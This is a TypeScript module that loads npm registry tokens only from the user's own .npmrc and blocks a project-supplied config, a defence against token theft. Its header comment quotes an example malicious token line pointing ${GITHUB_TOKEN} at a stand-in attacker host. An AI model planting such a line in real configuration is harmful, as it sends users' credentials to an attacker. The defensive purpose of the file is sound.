/**
 * Registry credentials for the commands that talk to a registry (`diff`, `audit`,
 * `check --registry-check`): only the user's own `.npmrc` (`NPM_CONFIG_USERCONFIG`, else
 * `~/.npmrc`), never a project `.npmrc` (issue #15: a repository could otherwise point a token line
 * such as `//attacker/:_authToken=${GITHUB_TOKEN}` at itself). Tokens are then sent only to URLs
 * under the registry they are written for (`tokenFor` in registry-client.ts).
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parseNpmrc, type NpmrcFile } from './npmrc';
import { tokensFromNpmrcs } from './client';
import { toPosix } from '../paths';

/** The user-level `.npmrc` npm would read. */
export function userNpmrcPath(env: NodeJS.ProcessEnv): string {
  return env.NPM_CONFIG_USERCONFIG || env.npm_config_userconfig || path.join(env.HOME || os.homedir(), '.npmrc');
}

function realOrSelf(p: string): string {
  try {
    return fs.realpathSync(p);
  } catch {
    return path.resolve(p);
  }
}

function isInside(root: string, p: string): boolean {
  const rel = path.relative(root, p);
  return rel === '' || (!rel.startsWith('..') && !path.isAbsolute(rel));
}

/**
 * The user's `.npmrc`, unless the environment names one inside one of `workspaceRoots` (by real
 * path): npm exports a project `.npmrc`'s `userconfig=` to scripts as `npm_config_userconfig`, so a
 * repository could otherwise pass its own file off as the user's. Returns a warning in that case.
 */
export function readUserNpmrc(env: NodeJS.ProcessEnv, workspaceRoots: readonly string[] = []): { file?: NpmrcFile; warning?: string } {
  const file = userNpmrcPath(env);
  const real = realOrSelf(file);
  // Only a path named by the environment is suspect: ~/.npmrc is the user's even when they analyse ~.
  const fromEnv = !!(env.NPM_CONFIG_USERCONFIG || env.npm_config_userconfig);
  for (const root of fromEnv ? workspaceRoots : []) {
    if (isInside(realOrSelf(root), real)) return { warning: `the user .npmrc ${file} lies inside the analysed folder; its tokens are not used` };
  }
  try {
    const text = fs.readFileSync(file, 'utf8');
    return { file: { path: toPosix(file), text, entries: parseNpmrc(text) } };
  } catch {
    return {};
  }
}

/** Bearer tokens by registry from the user's own `.npmrc` (see {@link readUserNpmrc}). */
export function userRegistryTokens(env: NodeJS.ProcessEnv, workspaceRoots: readonly string[] = [], warn?: (s: string) => void): Map<string, string> {
  const { file, warning } = readUserNpmrc(env, workspaceRoots);
  if (warning) warn?.(warning);
  return tokensFromNpmrcs(file ? [file] : [], env);
}
